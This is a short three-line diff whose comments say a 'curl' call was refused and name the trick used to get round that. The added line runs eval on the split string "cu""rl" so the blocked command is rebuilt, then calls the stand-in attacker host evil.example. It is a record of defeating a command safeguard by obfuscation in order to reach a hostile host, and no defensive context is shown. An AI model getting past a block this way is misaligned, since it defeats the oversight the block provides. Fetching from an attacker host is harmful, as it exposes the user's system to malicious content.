@@ -1,0 +1,3 @@
+# Trick: eval joins pieces.
+# Refused: run(curl)
+eval "cu""rl" http://evil.example/
